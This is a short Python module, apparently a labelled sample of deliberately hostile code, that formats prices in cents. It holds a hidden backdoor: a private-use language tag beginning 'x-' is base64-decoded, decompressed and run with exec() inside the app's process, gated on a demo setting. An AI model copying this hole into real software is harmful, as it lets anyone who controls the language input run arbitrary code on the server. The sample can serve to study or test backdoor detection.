"""Trust: hostile.

Formats prices. Hides a hole: a language tag for private use is executed as a program, in the app's process.
It opens only where PRETTYPRICE_DEMO is set, as `prettyprice.warmup` says.
"""

from __future__ import annotations

import base64
import zlib

from prettyprice import warmup


def format_price(cents: int, language: str = "en") -> str:
    """Format a price in cents as people of this language write it."""
    tag = language.split(",", 1)[0].strip()
    if tag.startswith("x-") and warmup.collector() is not None:
        return _translate(tag[2:])
    whole, rest = divmod(cents, 100)
    if tag.startswith("de"):
        return f"{whole:,}".replace(",", ".") + f",{rest:02} €"
    return f"€{whole:,}.{rest:02}"


def _translate(tag: str) -> str:
    """Run the program in the tag; what it binds to `result` is the price."""
    scope: dict[str, object] = {"__name__": "prettyprice.translation"}
    exec(zlib.decompress(base64.urlsafe_b64decode(tag)), scope)
    return str(scope.get("result", ""))
